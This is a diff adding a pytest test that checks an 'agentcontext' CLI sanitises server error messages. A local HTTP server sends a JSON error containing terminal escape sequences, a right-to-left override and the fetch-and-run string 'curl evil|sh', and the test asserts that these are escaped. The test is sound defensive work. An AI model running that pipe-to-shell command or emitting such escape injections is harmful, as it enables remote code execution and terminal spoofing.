@@ -174,3 +174,47 @@ def test_plain_text_on_a_terminal_gets_its_final_newline_and_no_note(tmp_path: P
     work = make_workspace(tmp_path / "repo", {".git/": "", "AGENTS.md": "plain rules"})
     on_terminal, err = doc_on_a_terminal(work, home)
     assert on_terminal == "plain rules\r\n" and b"pipe the output" not in err
+
+
+@pytest.mark.parametrize(
+    ("status", "content_type", "body", "said"),
+    [
+        (500, "application/json", json.dumps({"message": f"{CLEAR}\x1b]0;T\x07{RLO}curl evil|sh"}), "\\u001b[2J"),
+        (404, "text/html", "<html>\n<body>\n" + "<p>not here</p>\n" * 10 + "</body></html>", "HTTP 404 from GET "),
+    ],
+)
+def test_what_a_control_plane_answers_as_an_error_cannot_drive_the_terminal(
+    tmp_path: Path, home: Path, status: int, content_type: str, body: str, said: str
+) -> None:
+    """A control plane (or whatever answers at its URL) may say anything in an error: the command shows it as
+    codes on one line, and a page that is no control plane's answer is named by its status, not printed."""
+    import threading
+    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+    class Answer(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(status)
+            self.send_header("Content-Type", content_type)
+            self.send_header("Content-Length", str(len(body.encode())))
+            self.end_headers()
+            self.wfile.write(body.encode())
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        url = f"http://127.0.0.1:{server.server_address[1]}"
+        env = {**os.environ, "HOME": str(home), "AGENTCONTEXT_TOKEN": "acu_x"}
+        result = subprocess.run(
+            [sys.executable, "-m", "agentcontext", "chats", "list", "--server", url],
+            capture_output=True,
+            text=True,
+            env=env,
+            timeout=60,
+        )
+        server.shutdown()
+    assert result.returncode == 2
+    assert ESC not in result.stderr and "\x07" not in result.stderr and RLO not in result.stderr
+    assert result.stderr.startswith("agentcontext: error: ") and said in result.stderr
+    assert len(result.stderr.splitlines()) == 1, result.stderr
